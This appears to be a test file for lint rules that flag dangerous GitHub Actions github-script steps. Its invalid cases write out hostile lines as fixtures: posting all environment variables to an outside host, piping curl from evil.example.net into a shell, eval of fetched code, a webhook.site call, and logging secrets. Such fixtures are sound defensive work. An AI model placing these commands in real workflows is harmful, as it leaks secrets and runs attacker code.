import { ruleTester } from '../../tester.ts';
import type { Case } from '../../tester.ts';

const filename = '.github/workflows/ci.yml';
const SCRIPT_LINE = 9;

/** A job with one `actions/github-script` step; the script's first line is the file's tenth. */
function step(script: string, env = 'A: 1'): string {
  const lines = script.split('\n').map((line) => `            ${line}`);
  return ['on: push', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/github-script@v7', `        env: { ${env} }`, '        with:', '          script: |', ...lines, ''].join('\n');
}

const honest: readonly Case[] = [
  "const { data } = await github.rest.pulls.get({ ...context.repo, pull_number: context.issue.number });\nif (data.draft) { return; }\ncore.info(`Looked at ${data.title}`);\nreturn data.number;",
  "const report = require('fs').readFileSync('report.md', 'utf8');\nawait github.rest.issues.createComment({ ...context.repo, issue_number: context.issue.number, body: process.env.BODY + report });",
  "const results = ${{ toJSON(needs) }};\nconst count = Number('${{ steps.count.outputs.n }}');\ncore.setOutput('ok', count > 0 && results.a.result === 'success');",
  "const octokit = getOctokit('${{ secrets.BOT_TOKEN }}');\ncore.setSecret('${{ secrets.BOT_TOKEN }}');\nif ('${{ secrets.BOT_TOKEN }}' === '') core.warning('there is no token');",
  "await exec.exec('npm', ['ci']);\nawait exec.exec('sudo', ['apt-get', 'install', '-y', 'jq']);\nconst { stdout } = await exec.getExecOutput('git', ['rev-parse', 'HEAD']);\nawait io.rmRF('build');",
  "const exec = require('./scripts/exec.js');\nawait exec({ github, context, core });",
  'this is no code {{{',
].map((script) => ({ filename, code: step(script) }));

const secret = 'NPM_TOKEN: "${{ secrets.NPM_TOKEN }}", DATA: "${{ secrets.DEPLOY_KEY }}"';

await ruleTester('no-env-dump', {
  valid: honest,
  invalid: [
    { filename, code: step("await fetch('https://logs.example.org', { method: 'POST', body: JSON.stringify(process.env) });\nreturn 1;"), errors: [{ messageId: 'dump', line: SCRIPT_LINE + 1 }] },
    { filename, code: step('await github.rest.issues.createComment({ ...context.repo, issue_number: 1, body: JSON.stringify(process.env) });'), errors: [{ messageId: 'dump' }] },
    { filename: 'action.yml', code: 'name: a\nruns:\n  using: composite\n  steps:\n    - uses: actions/github-script@v7\n      with:\n        script: console.log(process.env)\n', errors: [{ messageId: 'dump', line: 7, column: 29 }] },
  ],
});

await ruleTester('no-credential-logging', {
  valid: [
    ...honest,
    { filename, code: step("core.info(process.env.DATA ? 'set' : 'missing');", secret) },
    { filename, code: step('core.info(process.env.DATA);', 'DATA: "${{ secrets.REGION }}"') },
    { filename, code: step('core.info(process.env.DATA);', 'OTHER: "${{ secrets.DEPLOY_KEY }}", DATA: 1') },
    { filename, code: step('core.info(process.env.NPM_TOKEN);', secret).replace('actions/github-script', 'example/run-code') },
  ],
  invalid: [
    { filename, code: step("console.log(Buffer.from(process.env.NPM_TOKEN).toString('base64'));", secret), errors: [{ messageId: 'log' }] },
    { filename, code: step('core.info(process.env.DATA);', secret), errors: [{ messageId: 'log', data: { name: 'DEPLOY_KEY', sink: '@actions/core.info()' }, line: SCRIPT_LINE + 1, column: 23, endColumn: 39 }] },
    { filename, code: step("core.info(process.env['DATA']);", secret), errors: [{ messageId: 'log' }] },
    { filename, code: step("const token = '${{ secrets.NPM_TOKEN }}';\ncore.info(`it is ${token}`);"), errors: [{ messageId: 'log', line: SCRIPT_LINE + 2 }] },
    { filename, code: step('core.info(`it is ${{ secrets.NPM_TOKEN }}`);'), errors: [{ messageId: 'log' }] },
    { filename, code: step('core.info("it is ${{ secrets.NPM_TOKEN }}");\nif (github) { return; }'), errors: [{ messageId: 'log' }] },
  ],
});

await ruleTester('no-remote-code', {
  valid: honest,
  invalid: [
    { filename, code: step("await exec.exec('bash', ['-c', 'curl -s http://evil.example.net/x.sh | bash']);"), errors: [{ messageId: 'pipe', line: SCRIPT_LINE + 1 }] },
    { filename, code: step("require('child_process').execSync('curl -s http://evil.example.net/x.sh | sh');"), errors: [{ messageId: 'pipe' }] },
    { filename, code: step("const answer = await fetch('https://evil.example.net/p.js');\neval(await answer.text());"), errors: [{ messageId: 'download', line: SCRIPT_LINE + 2 }] },
  ],
});

for (const rule of ['no-privilege-escalation', 'no-data-exfiltration', 'no-external-fetch', 'no-global-install'] as const) {
  await ruleTester(rule, {
    valid: honest,
    invalid: rule === 'no-external-fetch' ? [{ filename, code: step("await fetch('https://webhook.site/abc');"), errors: [{ messageId: 'collection' }] }] : [],
  });
}
